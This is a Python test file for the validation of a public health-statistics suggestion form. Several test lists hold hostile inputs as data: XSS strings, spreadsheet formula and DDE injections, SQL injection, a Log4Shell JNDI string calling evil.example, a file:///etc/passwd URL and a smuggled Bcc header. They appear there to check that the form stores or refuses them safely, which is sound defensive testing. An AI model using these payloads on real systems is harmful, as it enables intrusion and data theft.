"""What a suggestion must hold, and what becomes of what people type."""

import csv
import io

import pytest

from evidence.submissions import (
    FORMS,
    LONDON,
    REFERENCE_ALPHABET,
    SOURCE_LIMIT,
    STATEMENT_LIMIT,
    Kind,
    Suggestion,
    check,
    new_reference,
    safe_cell,
)
from evidence.vocabulary import DiseaseArea

GOOD = {
    "statement": "Fewer people from Black ethnic groups were offered an appointment.",
    "source_title": "A leaflet from my GP practice",
}


def accepted(**answers: object) -> Suggestion:
    checked = check(GOOD | answers)
    assert isinstance(checked, Suggestion), checked
    return checked


def refused(**answers: object) -> dict[str, str]:
    checked = check(GOOD | answers)
    assert isinstance(checked, list), f"accepted: {checked!r}"
    return {problem.field: problem.message for problem in checked}


def test_a_statement_and_where_it_is_from_are_enough():
    suggestion = accepted()
    assert suggestion.statement == GOOD["statement"]
    assert {name for name in FORMS[Kind.STATISTIC].fields if getattr(suggestion, name)} == set(GOOD)


def test_not_sure_is_an_answer_to_every_list():
    suggestion = accepted(disease_area="", geography_code="", ethnic_group="")
    assert (suggestion.disease_area, suggestion.geography_code, suggestion.ethnic_group) == (
        None,
        None,
        None,
    )


def test_what_is_chosen_from_the_lists_is_kept_as_codes():
    suggestion = accepted(
        disease_area="mental-health", geography_code="E09000022", ethnic_group="black-caribbean"
    )
    assert suggestion.disease_area is DiseaseArea.MENTAL_HEALTH
    assert suggestion.geography_code == "E09000022"
    assert suggestion.ethnic_group == "black-caribbean"
    assert accepted(geography_code=LONDON).geography_code == LONDON


def test_an_empty_form_gets_one_message_for_each_missing_answer_in_the_order_of_the_form():
    problems = check({})
    assert [problem.field for problem in problems] == ["statement", "source_title"]
    assert [problem.message for problem in problems] == [
        "Tell us what the statistic says.",
        "Tell us where it is from. If you are not sure, write what you remember.",
    ]


@pytest.mark.parametrize("nothing", ["", "  \n\t ", "\x00\x07", "\u200b\u200f", None, 3, ["text"]])
def test_what_can_not_be_seen_or_is_no_text_is_no_answer(nothing):
    assert set(refused(statement=nothing, source_title=nothing)) == {"statement", "source_title"}


def test_a_text_too_long_is_told_its_length_the_most_we_take_and_what_to_do():
    assert refused(statement="a" * 100_000) == {
        "statement": "Your text has 100,000 characters. The most we can take is 4,000. "
        "Shorten it, or send us the web address of the document."
    }


def test_a_text_of_exactly_the_most_is_taken_whole():
    assert len(accepted(statement="é" * STATEMENT_LIMIT).statement) == STATEMENT_LIMIT
    assert "source_title" in refused(source_title="a" * (SOURCE_LIMIT + 1))


def test_every_field_has_a_limit():
    problems = refused(**dict.fromkeys(FORMS[Kind.STATISTIC].fields, "a" * 100_000))
    assert set(problems) == set(FORMS[Kind.STATISTIC].fields)


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        '=HYPERLINK("https://evil.example","click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "[click](javascript:alert(1)) **bold** :red[x] $x^2$",
        "'; DROP TABLE suggestions; --",
        "{message} %s %(x)s ${jndi:ldap://evil.example}",
        "صحة المرأة 🏥👩🏾‍⚕️ ਪੰਜਾਬੀ",
    ],
)
def test_html_formulas_and_every_script_of_the_world_stay_as_they_were_typed(text):
    suggestion = accepted(statement=text, source_title=text, notes=text)
    assert (suggestion.statement, suggestion.source_title, suggestion.notes) == (text, text, text)


def test_control_characters_go_and_lines_stay():
    suggestion = accepted(
        statement="one\x00\r\ntwo\x1b[31m\rthree\u202e\ud800\tend", source_title="a\r\nb"
    )
    assert suggestion.statement == "one\ntwo[31m\nthree\tend"
    assert suggestion.source_title == "a b"


def test_letters_take_their_composed_form():
    assert accepted(statement="cafe\u0301").statement == "caf\u00e9"


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("https://www.example.org/a?b=c#d", "https://www.example.org/a?b=c#d"),
        ("  http://example.org  ", "http://example.org"),
        ("www.example.org/report.pdf", "https://www.example.org/report.pdf"),
        ("example.org:8080/x", "https://example.org:8080/x"),
        ("HTTPS://EXAMPLE.ORG/X", "HTTPS://EXAMPLE.ORG/X"),
        ("https://exämple.org/ü", "https://exämple.org/ü"),
        ("", None),
    ],
)
def test_a_web_address_is_taken_as_people_write_it(typed, kept):
    assert accepted(source_url=typed).source_url == kept


@pytest.mark.parametrize(
    "typed",
    [
        "not an address",
        "report",
        "https://",
        "https://localhost/x",
        "https://192.168.0.1/x",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "ftp://example.org/x",
        "file:///etc/passwd",
        "https://www.nhs.uk@evil.example/",
        "https://evil.example\\@www.nhs.uk/",
        'https://example.org/"><script>alert(1)</script>',
        "https://[::1",
        "https://example..org",
        '=HYPERLINK("https://evil.example")',
    ],
)
def test_what_is_no_web_address_is_refused_with_what_one_looks_like(typed):
    assert "starts with https:// or www" in refused(source_url=typed)["source_url"]


@pytest.mark.parametrize(
    "contact",
    ["ama@example.org", "o'neil+x@mail.example.co.uk", "020 7946 0000", "+44 (0)20-7946-0000 x12"],
)
def test_an_email_address_or_a_phone_number_is_a_way_to_reach_someone(contact):
    assert accepted(contact=contact).contact == contact


@pytest.mark.parametrize(
    "contact", ["ama", "ama@", "@example.org", "a@b@c.org", "ama@example", "12345", "ask me"]
)
def test_what_is_neither_is_refused_and_may_be_left_empty(contact):
    assert "leave this empty" in refused(contact=contact)["contact"]


def test_a_contact_can_not_smuggle_a_second_line_into_a_letter():
    assert "contact" in refused(contact="ama@example.org\nBcc: all@example.org")


@pytest.mark.parametrize("code", ["E09000000", "E09000034", "E08000001", "Lambeth", "E09000022 "])
def test_a_place_that_is_no_london_borough_is_refused(code):
    assert "Choose a London borough" in refused(geography_code=code)["geography_code"]


def test_a_choice_that_is_not_on_its_list_is_refused():
    problems = refused(disease_area="magic", ethnic_group="<b>")
    assert problems == {
        "disease_area": "Choose a health topic from the list, or not sure.",
        "ethnic_group": "Choose an ethnic group from the list, or not sure.",
    }


def test_what_is_not_asked_is_left_out():
    assert check(GOOD | {"admin": "yes"}) == accepted()


def test_reference_numbers_are_short_clear_and_never_the_same():
    drawn = [new_reference() for _ in range(2_000)]
    assert len(set(drawn)) == len(drawn)
    for reference in drawn:
        start, first, second = reference.split("-")
        assert (start, len(first), len(second)) == ("LRH", 4, 4)
        assert set(first + second) <= set(REFERENCE_ALPHABET)
    assert not set(REFERENCE_ALPHABET) & set("0O1IL")


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\uff1d1", "=", "\u00a0@x"],
)
def test_a_cell_that_a_spreadsheet_would_run_starts_with_an_apostrophe(text):
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", " ", "1 in 5", "a=b", "'=1", "<b>", "5-6"])
def test_a_cell_that_is_only_text_stays_as_it_is(text):
    assert safe_cell(text) == text


def test_a_safe_cell_survives_a_csv_file():
    out = io.StringIO()
    csv.writer(out).writerow([safe_cell('=HYPERLINK("x","y")\n"quoted", more')])
    assert next(csv.reader(io.StringIO(out.getvalue())))[0].startswith("'=HYPERLINK")
